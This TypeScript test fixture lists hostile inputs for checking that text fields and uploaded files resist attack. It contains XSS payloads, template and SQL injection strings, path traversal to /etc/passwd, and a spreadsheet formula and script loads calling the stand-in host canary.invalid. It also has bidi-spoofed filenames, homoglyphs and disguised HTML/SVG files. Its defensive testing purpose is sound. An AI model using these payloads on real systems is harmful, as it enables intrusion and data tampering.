/**
 * What strangers may write into every field that takes text. Payloads that would run call `canary()`, which a test plants, or fetch from
 * `canary.invalid`. Written for this project along the classes of OWASP's cheat sheets, UTS 39 (confusables) and UAX 9 (bidi).
 */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  'a script': '<script>canary()</script>',
  'a script that is closed twice': '</title></textarea></style></script><script>canary()</script>',
  'a script from elsewhere': '<script src=//canary.invalid/x.js></script>',
  'a picture that fails': '<img src=x onerror=canary()>',
  'a picture without spaces': '<img/src=x/onerror=canary()//',
  'a drawing': '<svg onload=canary()><script>canary()</script></svg>',
  'a drawing that is animated': '<svg><animate onbegin=canary() attributeName=x dur=1s></svg>',
  'a sound that fails': '<audio src=x onerror=canary()>',
  'an open detail': '<details open ontoggle=canary()>',
  'a field that takes focus': '<input autofocus onfocus=canary()>',
  'a frame with its document': '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
  'a frame of script': '<iframe src=javascript:parent.canary()></iframe>',
  'an object': '<object data=javascript:canary()></object><embed src=//canary.invalid>',
  'a base and a refresh': '<base href=//canary.invalid/><meta http-equiv=refresh content="0;url=javascript:canary()">',
  'a style': '<style>*{background:url(//canary.invalid/css)}@import "//canary.invalid/i.css"</style>',
  'markup that changes when it is parsed twice':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=canary()&gt;">',
  'a template of shadow': '<template shadowrootmode=open><img src=x onerror=canary()></template>',
  'an end of an attribute': '" autofocus onfocus=canary() x="',
  'an end of an attribute in single quotes': "' onmouseover='canary()' style='position:fixed;inset:0",
  'an address of script': 'javascript:canary()',
  'an address of script in disguise': 'JaVaScRiPt&colon;canary()//\u200bhttps://stage.example',
  'an address of data': 'data:text/html,<script>canary()</script>',
  'a link': '<a href="javascript:canary()">[x](javascript:canary())</a> https://canary.invalid/?q=1',
  entities: '&lt;img src=x onerror=canary()&gt; &#60;script&#62;canary()&#60;/script&#62;',
  'a part of a template': '$' + '{canary()} {{constructor.constructor("canary()")()}} <%= canary() %> #{canary()}',
  'a marker of the template library': '<!--?lit$000000000$--> ?lit$000000000$ {{lit-000}} <?lit$1$>',
  'names of a prototype': '__proto__',
  'a name every object has': 'constructor',
  'format signs': '%s%n%x {0} {1} {99} $& $1 $` |one|many|',
  'a query': '\'; DROP TABLE events; -- " OR 1=1 NEAR(* AND) :^"',
  'a path': '../../../../etc/passwd\\..\\..\\con',
  'a formula': '=HYPERLINK("//canary.invalid","x")',
  'separators of lines and fields': 'one\ttwo;three,four|five',
  'text that is written from the right': 'ابھی موسیقی بج رہی ہے שלום לכל הבאים',
  'marks of direction': '\u200f\u200emp3.exe\u061c\u200f\u200f gnp',
  'an override of direction': 'song\u202e3pm.exe\u202c',
  'isolates that are never closed': '\u2066\u2067\u2068 open',
  'nothing to see': '\u200b\u200c\u200d\u2060\ufeff',
  'one who looks like another': 'Аdmіn ᴀdmin Ａｄｍｉｎ',
  'a great family': '👩‍❤️‍💋‍👩🏽'.repeat(40),
  'flags and modifiers': '🏴󠁧󠁢󠁳󠁣󠁴󠁿🇵🇰🏿🏿🏿\u20e3\ufe0f',
  'a word without an end': 'Donaudampfschifffahrtsgesellschaftskapitän'.repeat(8),
  'a word of blanks that do not break': 'a\u00a0'.repeat(150),
  'wide signs': '\ufdfd﷽\u{12219}𒐫꧅'.repeat(20),
  'a hundred thousand marks on one letter': `Z${'\u0300\u0323\u0489'.repeat(33_333)}`,
  'as many marks as a message takes': `Z${'\u0310\u0323\u033f\u0489'.repeat(450)}`,
  'letters with a dozen marks each': [...'resonance']
    .map(letter => `${letter}${'\u030d\u0310\u0316\u0324'.repeat(3)}`)
    .join(''),
  'a nul and a bell': 'before\u0000\u0007\u001b[31mafter',
  'half a pair': 'half \ud83c and \udfb8 half',
  'many lines': 'line\n'.repeat(300),
  'a quotation of the page itself': '</p></article></bs-part></main><bs-part name="desk"></bs-part>',
}

/** The same as a field takes it: one line or several, without signs that the wire refuses, at most so long. */
export function fitted(text: string, max: number, { lines = false } = {}): string {
  const seen = text
    .toWellFormed()
    .replace(lines ? /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/g : /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g, ' ')
    .replace(/[\u202a-\u202e\u2066-\u2069]/g, '')
    .slice(0, max)
    .toWellFormed()
    .trim()
  return seen === '' ? '.' : seen
}

const svg = (inside: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="8" height="8" onload="canary()">${inside}</svg>`

/** Documents that a browser would run if it took them for what they say they are, with the ending of the name they come under. */
export const HOSTILE_FILES: Readonly<Record<string, readonly [ending: string, bytes: string]>> = {
  'a page': [
    'html',
    '<!doctype html><title>page</title><h1>page</h1><img src=x onerror=canary()><script>canary()</script>',
  ],
  'a page by another name': [
    'xhtml',
    '<html xmlns="http://www.w3.org/1999/xhtml"><body onload="canary()"><script>canary()</script></body></html>',
  ],
  'a drawing with script': [
    'svg',
    svg('<script>canary()</script><a xlink:href="javascript:canary()"><text y="8">x</text></a>'),
  ],
  'a drawing with a page inside': [
    'svg',
    svg(
      '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.canary()&lt;/script&gt;"/></foreignObject>',
    ),
  ],
  'a document that transforms itself': [
    'xml',
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><d xmlns:h="http://www.w3.org/1999/xhtml"><h:script>canary()</h:script></d>',
  ],
  'a script': ['js', 'canary()'],
  'a manifest': ['webmanifest', '{"name":"x","start_url":"javascript:canary()"}'],
  'a page in the words of a picture': ['png', '<html><script>canary()</script>'],
  'a page in the words of a sound': ['mp3', '<html><body onload=canary()>'],
  'a page without an ending': ['', '<html><script>canary()</script>'],
}
